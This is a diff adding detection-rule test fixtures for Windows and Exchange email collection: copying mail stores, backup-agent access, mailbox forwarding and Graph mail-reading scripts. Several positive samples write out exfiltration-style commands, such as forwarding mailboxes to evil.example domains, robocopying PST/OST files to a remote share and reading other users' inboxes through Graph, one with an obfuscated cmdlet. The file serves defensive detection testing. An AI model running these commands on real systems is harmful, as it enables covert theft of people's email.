@@ -1921,3 +1921,163 @@ VARIANTS[R] = [
         no_match=[R],
     ),
 ]
+
+# --- benign near-misses and variants from the outside check (issue 13) ------------------------
+_OST = "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Outlook\\bob@contoso.com.ost"
+_PST = "C:\\Users\\bob\\Documents\\Outlook Files\\archive.pst"
+_SCHED = "C:\\Windows\\System32\\svchost.exe"
+
+R = "win_mail_store_copy_or_archive"
+FIXTURES[R] += [
+    neg(
+        R,
+        "robocopy_backup_excludes_stores",
+        "A scheduled backup job mirrors the profiles and excludes mail stores with /XF: the extensions name what is not copied.",
+        proc(
+            "C:\\Windows\\System32\\Robocopy.exe",
+            "robocopy C:\\Users \\\\backup01\\homes$ /MIR /XF *.ost *.pst /XD AppData /R:1 /W:1",
+            "robocopy.exe",
+            user="NT AUTHORITY\\SYSTEM",
+            parent=_SCHED,
+            parent_cmd="C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
+        ),
+    ),
+    pos(
+        R,
+        "robocopy_includes_stores_with_if",
+        "robocopy copies only mail stores through the /IF include option: still a copy of the stores.",
+        proc(
+            "C:\\Windows\\System32\\Robocopy.exe",
+            "robocopy C:\\Users\\bob\\AppData\\Local\\Microsoft\\Outlook \\\\10.9.8.7\\drop /S /IF *.ost *.pst",
+            "robocopy.exe",
+        ),
+    ),
+    pos(
+        R,
+        "robocopy_store_pattern_then_exclusion",
+        "robocopy copies *.pst and excludes *.ost: the store pattern stands before the options, so it is copied.",
+        proc(
+            "C:\\Windows\\System32\\Robocopy.exe",
+            "robocopy C:\\Users\\bob\\Documents D:\\x *.pst /XF *.ost /R:0",
+            "robocopy.exe",
+        ),
+    ),
+]
+
+R = "win_mail_store_access_by_non_mail_client"
+FIXTURES[R] += [
+    neg(
+        R,
+        "veeam_agent_backs_up_pst",
+        "The Veeam agent, installed under Program Files, reads a PST while backing up the profile.",
+        {
+            "kind": "object_access",
+            "process": "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe",
+            "object": _PST,
+        },
+    ),
+    neg(
+        R,
+        "azure_backup_agent_reads_ost",
+        "The Azure Recovery Services (MARS) agent reads an OST during a file backup.",
+        {
+            "kind": "object_access",
+            "process": "C:\\Program Files\\Microsoft Azure Recovery Services Agent\\bin\\cbengine.exe",
+            "object": _OST,
+        },
+    ),
+    pos(
+        R,
+        "backup_named_tool_outside_program_files",
+        "A tool in a user-writable folder named after a backup vendor reads the OST: only the vendor's installation folder is trusted.",
+        {
+            "kind": "object_access",
+            "process": "C:\\Users\\Public\\Veeam\\Veeam.EndPoint.Service.exe",
+            "object": _OST,
+        },
+    ),
+]
+
+R = "win_exchange_management_forwarding"
+FIXTURES[R] += [
+    neg(
+        R,
+        "set_mailbox_forwarding_to_colleague",
+        "Set-Mailbox forwards to one address in an internal domain (a colleague): routine, the M365 rules keep it at low; no alert here.",
+        msx(
+            "Set-Mailbox",
+            '-Identity "contoso.local/Users/alice" -ForwardingSmtpAddress "smtp:bob@contoso.com" -DeliverToMailboxAndForward "True"',
+        ),
+    ),
+    pos(
+        R,
+        "inbox_rule_forward_internal_and_external",
+        "An inbox rule forwarding to a colleague and to an outside address: two addresses, so the internal one does not hide the other.",
+        msx(
+            "New-InboxRule",
+            '-Mailbox "hr" -Name "Copy" -ForwardTo "bob@contoso.com","hr.copy@evil.example"',
+        ),
+    ),
+    pos(
+        R,
+        "set_mailbox_identity_internal_forwarding_external",
+        "The mailbox is named by its internal address and forwarded outside: the internal address is the identity, not the destination.",
+        msx(
+            "Set-Mailbox",
+            '-Identity "cfo@contoso.com" -ForwardingSmtpAddress "smtp:cfo@evil.example"',
+        ),
+    ),
+    pos(
+        R,
+        "set_mailbox_forwarding_lookalike_domain",
+        "Forwarding to a look-alike domain that starts with the internal one (contoso.com.evil.example): not internal.",
+        msx(
+            "Set-Mailbox",
+            '-Identity "cfo" -ForwardingSmtpAddress "smtp:cfo@contoso.com.evil.example"',
+        ),
+    ),
+]
+
+R = "win_mail_hunting_tool_script"
+FIXTURES[R] += [
+    pos(
+        R,
+        "graph_rest_reads_other_users_messages",
+        "Atomic Red Team T1114.002: an app-only Graph session requests /users/{id}/messages for each selected user.",
+        sb(
+            'connect-mggraph -ClientId $app.AppId -TenantId $context.TenantId -CertificateName $cert.Subjectname.Name\nforeach ($user in $selectUsers) { $url= "https://graph.microsoft.com/v1.0/users/$($user)/messages" ; Invoke-MgGraphRequest -Uri $url -Method GET -OutputType PSObject}'
+        ),
+    ),
+    pos(
+        R,
+        "graph_sdk_mail_folder_messages_backticks",
+        "The Graph SDK reads another user's inbox, the cmdlet name broken by backticks.",
+        sb(
+            "Connect-MgGraph -Scopes Mail.Read\nG`et-MgUserMailFolderMessage -UserId ceo@contoso.com -MailFolderId inbox -All | Select Subject,BodyPreview"
+        ),
+    ),
+    pos(
+        R,
+        "graph_sdk_message_content",
+        "Get-MgUserMessageContent downloads a user's message as MIME.",
+        sb(
+            "Get-MgUserMessageContent -UserId cfo@contoso.com -MessageId $m.Id -OutFile C:\\Users\\Public\\m.eml"
+        ),
+    ),
+    neg(
+        R,
+        "graph_own_mailbox_me",
+        "A script reads the signed-in user's own mail through /me/messages: the owner's mailbox.",
+        sb(
+            'Invoke-MgGraphRequest -Uri "https://graph.microsoft.com/v1.0/me/messages?$top=10" -Method GET'
+        ),
+    ),
+    neg(
+        R,
+        "graph_user_listing_and_calendar",
+        "An admin script lists users and reads a calendar through Graph: no mail is read.",
+        sb(
+            'Get-MgUser -All | Select DisplayName,Mail\nInvoke-MgGraphRequest -Uri "https://graph.microsoft.com/v1.0/users/$id/calendar/events" -Method GET'
+        ),
+    ),
+]
